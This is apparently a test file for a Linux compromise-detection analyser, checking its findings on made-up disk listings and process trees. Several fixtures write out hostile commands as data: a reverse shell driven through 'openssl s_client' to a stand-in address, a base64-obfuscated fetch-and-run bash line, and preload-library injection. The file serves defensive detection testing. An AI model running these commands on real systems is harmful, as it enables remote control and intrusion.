import { analyse } from '../../../core/analysis/analyse';
import { evidenceOf } from '../../../core/analysis/evidence-in-memory';
import type { Summary } from '../../../core/analysis/summary-schema';
import {
  bodyLine,
  copied,
  type Files,
  ILS_HEAD,
  INSTALLED,
  type MadeFile,
  memoryOf,
  NOW,
  networkFinding,
  outward,
} from './detect/made-evidence';

/** Made sets of what is easily missed, and of busy machines that are easily taken for broken into. */
async function analysed(files: Files): Promise<Summary> {
  const { summary } = await analyse(evidenceOf(files), { origin: 'stand-in', now: () => new Date(0) });
  return summary;
}

const said = ({ findings }: Summary) =>
  findings.map(({ confidence, detector, title }) => `${confidence} ${detector}: ${title}`);
const above = (level: 'low' | 'medium', summary: Summary) =>
  said(summary).filter((line) => !line.startsWith('low') && (level === 'low' || !line.startsWith('medium')));

const BASE: readonly MadeFile[] = Array.from({ length: 200 }, (_, at) => ({
  path: `/usr/lib/pkg/f${at}`,
  inode: 5000 + at,
  modified: INSTALLED - 9_000_000,
}));
const PROGRAM = 'r/rrwxr-xr-x';

function listing(...files: readonly MadeFile[]): Files {
  return { 'disk/bodyfile.txt': `${[...BASE, ...files].map(bodyLine).join('\n')}\n` };
}

/** What somebody who sets a machine up changes within minutes. */
const SET_UP: readonly MadeFile[] = [
  '/etc/cron.d/backup',
  '/etc/sudoers.d/deploy',
  '/etc/systemd/system/app.service',
  '/etc/systemd/system/app.timer',
  '/etc/profile.d/proxy.sh',
  '/home/deploy/.ssh/authorized_keys',
  '/etc/ssh/sshd_config',
].map((path, at) => ({ path, inode: 6000 + at, born: NOW + at * 5 }));

describe('a machine that is being set up', () => {
  test('has its many changes told as one thing to look at', async () => {
    const told = above('low', await analysed(listing(...SET_UP)));
    expect(told).toEqual([
      expect.stringMatching(
        /^medium persistence-change: 7 ways to be started or let in again changed between .*deploy/,
      ),
    ]);
  });

  test('has nothing to look at where configuration management was at work in those minutes', async () => {
    const summary = await analysed(
      listing(...SET_UP, { path: '/root/.ansible/tmp', mode: 'd/drwx------', inode: 6100, changed: NOW + 20 }),
    );
    expect(above('low', summary)).toEqual([]);
    expect(said(summary).join('\n')).toMatch(/low persistence-change: 7 ways/);
  });

  test('has each told, surely, where a set-user-id program came to a temporary place as well', async () => {
    const kit = { path: '/var/tmp/...q/sh', mode: 'r/rrwsr-xr-x', born: NOW, inode: 6200 };
    const preloaded = { path: '/etc/ld.so.preload', born: NOW + 3, inode: 6201 };
    const told = above('medium', await analysed(listing(...SET_UP, kit, preloaded)));
    expect(told.filter((line) => line.includes('persistence-change'))).toHaveLength(SET_UP.length + 1);
  });
});

test('a developer’s server started from a shell, and what was unpacked in a home, are nothing to look at', async () => {
  const server = { sock: 41, state: 'LISTEN', local: ['0.0.0.0', 5173] } as const;
  const checkout = Array.from({ length: 200 }, (_, at) => ({
    path: `/home/dev/app/node_modules/p${at}/index.js`,
    inode: 20_000 + at,
    born: NOW + (at % 60),
    modified: NOW - 9_000_000,
  }));
  const summary = await analysed({
    ...listing(
      ...checkout,
      { path: '/home/dev/.nvm/node', mode: PROGRAM, inode: 40, uid: 1000 },
      { path: '/tmp/check.sh', mode: PROGRAM, born: NOW, inode: 42 },
      { path: '/home/dev/app/public/index.php', born: NOW + 9, inode: 43 },
    ),
    ...memoryOf([
      { pid: 2000, ppid: 700, comm: 'bash', args: '-bash', exe: '/usr/bin/bash' },
      {
        pid: 2001,
        ppid: 2000,
        comm: 'node',
        args: 'node vite --host',
        exe: '/home/dev/.nvm/node',
        inode: 40,
        sockets: [server],
      },
    ]),
  });
  expect(above('low', summary)).toEqual([]);
});

describe('a program of harmless name in a folder of packages', () => {
  const program = { path: '/usr/sbin/powerd', mode: PROGRAM, inode: 50, born: NOW };
  const unit = { path: '/etc/systemd/system/powerd.service', inode: 51, born: NOW + 20 };
  const running = (sockets = outward()) =>
    memoryOf([
      { pid: 3000, ppid: 1, comm: 'powerd', args: '/usr/sbin/powerd', exe: '/usr/sbin/powerd', inode: 50, sockets },
    ]);

  test('is sure where it came alone, runs, is connected to the outside, and a unit that starts it came with it', async () => {
    const summary = await analysed({
      ...listing(program, unit),
      ...running(),
      ...copied(51, unit.path, '[Service]\nExecStart=/usr/sbin/powerd\n'),
      'disk/unowned.txt': '/usr/sbin/powerd\n',
    });
    expect(summary.assessment).toBe('compromised');
    expect(above('medium', summary).join('\n')).toMatch(/suspect-connection: powerd \(pid 3000\) is connected to/);
    expect(above('medium', summary).join('\n')).toMatch(
      /timer-start: powerd .* started again and again by \/etc\/systemd\/system\/powerd\.service/,
    );
    const changed = summary.findings.find(({ detector }) => detector === 'program-changed');
    expect(changed?.evidence.map(({ file }) => file)).toContain('disk/unowned.txt');
  });

  test('is worth a look without such a unit, and nothing where it is not connected', async () => {
    expect(above('medium', await analysed({ ...listing(program), ...running() }))).toEqual([]);
    expect(above('low', await analysed({ ...listing(program), ...running() })).join('\n')).toMatch(
      /medium suspect-connection: powerd/,
    );
    expect(above('low', await analysed({ ...listing(program), ...running([]) }))).toEqual([]);
  });

  test('is nothing where a package’s list names it', async () => {
    const summary = await analysed({ ...listing(program, unit), ...running(), 'disk/unowned.txt': '/usr/bin/other\n' });
    expect(above('low', summary)).toEqual([]);
  });
});

describe('a host of containers', () => {
  const layer = '/var/lib/docker/overlay2/abc123/diff';
  const inside = { netns: 99 };
  const worker = (path: string, inode: number) =>
    memoryOf([
      {
        pid: 3000,
        ppid: 1,
        comm: 'worker',
        args: path,
        exe: path,
        inode,
        device: [0, 60],
        sockets: outward().map((one) => ({ ...one, ...inside })),
      },
    ]);

  test('has what its images brought left alone, set-user-id programs and sites included', async () => {
    const image = ['/bin/su', '/tmp/.x/run', '/var/www/html/index.php', '/usr/bin/tool'].map((path, at) => ({
      path: `${layer}${path}`,
      mode: path === '/bin/su' ? 'r/rrwsr-xr-x' : PROGRAM,
      inode: 7000 + at,
      born: NOW,
      modified: NOW - 9_000_000,
    }));
    expect(said(await analysed({ ...listing(...image), ...worker('/usr/bin/tool', 7003) }))).toEqual([]);
  });

  test('tells a program that the container wrote and runs, with its connection, whatever network it is in', async () => {
    const files = listing({ path: `${layer}/usr/local/bin/gc`, mode: PROGRAM, inode: 7100, born: NOW });
    const summary = await analysed({ ...files, ...worker('/usr/local/bin/gc', 7100) });
    expect(above('low', summary).join('\n')).toMatch(
      /process-odd-place: worker .* which was written into the container while it ran/,
    );
    expect(summary.indicators.map(({ value }) => value)).toContain('198.51.100.7');
  });

  test('is sure of nothing where builds leave programs in containers and in temporary places, and cron changed as well', async () => {
    const files = listing(
      { path: `${layer}/app/tool`, mode: PROGRAM, inode: 7100, born: NOW },
      { path: '/tmp/b1/run.sh', mode: PROGRAM, inode: 7101, born: NOW + 9 },
      { path: '/etc/cron.d/prune', inode: 7102, born: NOW + 60 },
    );
    expect(above('medium', await analysed({ ...files, ...worker('/app/tool', 7100) }))).toEqual([]);
  });

  test('knows a temporary place of a container as one', async () => {
    const files = listing({ path: `${layer}/tmp/.y/run`, mode: PROGRAM, inode: 7200, born: NOW });
    expect(above('medium', await analysed({ ...files, ...worker('/tmp/.y/run', 7200) })).join('\n')).toMatch(
      /tooling-in-tmp: \/var\/lib\/docker\/overlay2\/abc123\/diff\/tmp\/\.y holds/,
    );
  });
});

test('an interactive shell beside a network tool of the same pipeline is driven by whoever is at the other end', async () => {
  const summary = await analysed(
    memoryOf([
      { pid: 3000, ppid: 1, comm: 'sh', args: 'sh /opt/run', exe: '/usr/bin/dash' },
      { pid: 3001, ppid: 3000, comm: 'sh', args: '/bin/sh -i', exe: '/usr/bin/dash' },
      {
        pid: 3002,
        ppid: 3000,
        comm: 'openssl',
        args: 'openssl s_client -quiet -connect 198.51.100.7:443',
        exe: '/usr/bin/openssl',
        sockets: outward(),
      },
    ]),
  );
  expect(above('medium', summary)).toEqual([
    expect.stringMatching(/reverse-shell: sh \(pid 3001\) is a shell driven from 198\.51\.100\.7:443/),
  ]);
  expect(summary.verdict).toContain('a shell was driven from 198.51.100.7');
});

test('a program that a rule knows is sure where it runs and is connected, whatever its name, and carries what came with it', async () => {
  const program = { path: '/home/support/.cache/font/httpd', mode: PROGRAM, inode: 50, born: NOW };
  const summary = await analysed({
    ...listing(
      program,
      { path: '/var/spool/cron/crontabs/support', inode: 51, born: NOW + 30 },
      { path: '/var/log/wtmp', inode: 52, size: 0, born: INSTALLED, changed: NOW + 300 },
    ),
    ...memoryOf([
      { pid: 3000, ppid: 1, comm: 'httpd', args: 'httpd', exe: program.path, inode: 50, sockets: outward() },
    ]),
    'disk/yara-miners.txt': `miner_binary ${program.path}\n`,
  });
  const told = above('low', summary).join('\n');
  expect(told).toMatch(
    /high yara-match: httpd \(pid 3000\) runs \/home\/support\/\.cache\/font\/httpd, which matches miner_binary/,
  );
  expect(told).toMatch(/high persistence-change: \/var\/spool\/cron\/crontabs\/support/);
  expect(told).toMatch(/medium log-tampering: \/var\/log\/wtmp was emptied/);
});

test('what holds a connection to the address a shell is driven from is named, and an encoded command below it is read', async () => {
  const summary = await analysed(
    memoryOf([
      {
        pid: 900,
        ppid: 1,
        comm: 'java',
        args: '/usr/bin/java -jar app.jar',
        exe: '/usr/bin/java',
        sockets: outward(1389),
      },
      {
        pid: 950,
        ppid: 900,
        comm: 'bash',
        args: 'bash -c {echo,Y3VybA==}|{base64,-d}|{bash,-i}',
        exe: '/usr/bin/bash',
      },
      { pid: 951, ppid: 950, comm: 'bash', args: 'bash -i', exe: '/usr/bin/bash', sockets: outward(9001, [0, 1, 2]) },
    ]),
  );
  const told = above('low', summary).join('\n');
  expect(told).toMatch(
    /medium suspect-connection: java \(pid 900\) is connected to 198\.51\.100\.7:1389, the address from which bash \(pid 951\) is driven/,
  );
  expect(told).toMatch(/high telling-command: bash \(pid 950\) fetches a program and runs it/);
});

test('a library that the preload list names counts among packages’ libraries too', async () => {
  const libc = '/usr/lib64/libnss_cache.so.2';
  const summary = await analysed({
    ...listing(
      { path: '/etc/ld.so.preload', born: NOW, inode: 60 },
      { path: libc, mode: PROGRAM, born: NOW - 4, inode: 61 },
    ),
    ...memoryOf([], {
      'proc.Maps': [
        {
          PID: 610,
          Process: 'chronyd',
          Start: 1,
          End: 2,
          Flags: 'r-x',
          'File Path': libc,
          Inode: 61,
          Major: 259,
          Minor: 1,
          PgOff: 0,
        },
      ],
    }),
    ...copied(60, '/etc/ld.so.preload', `${libc}\n`),
  });
  expect(above('medium', summary).join('\n')).toMatch(
    /preload: The library \/usr\/lib64\/libnss_cache\.so\.2 is loaded into chronyd \(610\), as/,
  );
});

test('a file deleted while open carries the name that older kernels leave in its folder', async () => {
  const row = bodyLine({ path: '/usr/local/bin/agentd (deleted-realloc)', inode: 70, mode: PROGRAM, born: NOW });
  const summary = await analysed({
    'disk/bodyfile.txt': `${BASE.map(bodyLine).join('\n')}\n${row}\n`,
    'disk/fls-r-p.txt': '-/r * 70(realloc):\tusr/local/bin/agentd\n',
    'disk/ils-e-orphans.txt': `${ILS_HEAD}70|a|0|0|${NOW}|${NOW}|${NOW}|${NOW}|755|0|900\n`,
  });
  expect(said(summary)).toEqual([
    expect.stringMatching(
      /medium deleted-while-open: Inode 70 \(\/usr\/local\/bin\/agentd\) was deleted while open: 900 bytes/,
    ),
  ]);
});

test('evidence that could hardly be read is not called clean', async () => {
  const { verdict } = await analysed({
    'disk/bodyfile.txt': '',
    'memory/linux.pslist.json': 'Unsatisfied requirement\n',
  });
  expect(verdict).toMatch(/^(?:Hardly anything could be checked|This evidence could not be analysed)/);
});

test('what only the time of the finding speaks against is told as one', async () => {
  const scripts = Array.from({ length: 6 }, (_, at) => ({
    path: `/tmp/b${at}/run.sh`,
    mode: PROGRAM,
    born: NOW + at,
    inode: 90 + at,
  }));
  const seen = new Date((NOW + 600) * 1000).toISOString();
  const finding = {
    ...networkFinding('198.51.100.77', 443),
    service: { eventFirstSeen: seen, eventLastSeen: seen, action: {} },
  };
  const { summary } = await analyse(evidenceOf(listing(...scripts)), {
    origin: 'stand-in',
    now: () => new Date(0),
    finding,
  });
  expect(above('low', summary)).toEqual([
    expect.stringMatching(
      /^medium tooling-in-tmp: Programs, scripts and hidden files in temporary places, 6 in all: \/tmp\/b0, .* and 1 more$/,
    ),
  ]);
  expect(summary.narrative.join(' ')).not.toContain('Tools lie');
});

test('remarks of low confidence beyond a few are told as one', async () => {
  const kept = Array.from({ length: 9 }, (_, at) => ({ path: `/root/.ssh/id_${at}`, inode: 80 + at, born: NOW + at }));
  const summary = await analysed(listing({ path: '/tmp/run.sh', mode: PROGRAM, born: NOW, inode: 79 }, ...kept));
  const remarks = said(summary).filter((line) => line.includes('credentials-touched'));
  expect(remarks).toHaveLength(4);
  expect(remarks.at(-1)).toMatch(
    /^low credentials-touched: Keys and stored credentials .*, 6 more: \/root\/\.ssh\/id_/,
  );
});
